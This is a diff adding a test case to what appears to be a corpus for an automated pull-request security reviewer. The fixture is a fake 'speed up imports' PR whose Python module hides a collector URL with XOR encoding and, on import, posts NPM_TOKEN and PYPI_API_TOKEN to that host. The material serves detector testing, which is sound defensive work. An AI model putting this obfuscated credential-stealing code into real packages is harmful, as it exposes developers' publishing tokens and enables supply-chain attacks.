@@ -7659,4 +7659,37 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: 'critical', action: 'request_changes', findings: ['suspicious-network-endpoint'] },
   },
+  {
+    id: 'attack-pypi-token-to-xor-hidden-host',
+    description:
+      'Modeled on the PyPI credential stealers of 2024-2026 that hide their collector\'s host from a reader: a "speed up imports" PR adds a module that decodes its URL from a list of codes XOR-ed with 0x2A (`"".join(chr(c ^ _K) for c in _E)`) and posts NPM_TOKEN and PYPI_API_TOKEN there on import; a second file builds the same host with `"https://%s/c" % HOST`.',
+    fixture: () =>
+      attackPr({
+        repo: 'pkg-utils',
+        number: 74003,
+        title: 'perf: speed up imports',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'pkg_utils/_warm.py',
+            base: lines('import os', ''),
+            head: lines(
+              'import os',
+              'import requests',
+              '',
+              '_K = 0x2A',
+              '_E = [66, 94, 94, 90, 89, 16, 5, 5, 89, 94, 75, 94, 89, 4, 90, 65, 77, 7, 67, 68, 89, 67, 77, 66, 94, 89, 4, 78, 79, 92, 5, 73]',
+              '_U = "".join(chr(c ^ _K) for c in _E)',
+              '',
+              'requests.post(_U, json={"n": os.environ.get("NPM_TOKEN"), "p": os.environ.get("PYPI_API_TOKEN")}, timeout=3)',
+            ),
+          },
+          {
+            path: 'pkg_utils/_ping.py',
+            head: lines('import os', 'import requests', '', 'HOST = "stats.pkg-insights.dev"', '', 'def ping():', '    requests.post("https://%s/c" % HOST, data={"t": os.environ.get("PYPI_API_TOKEN")}, timeout=3)'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
 ];
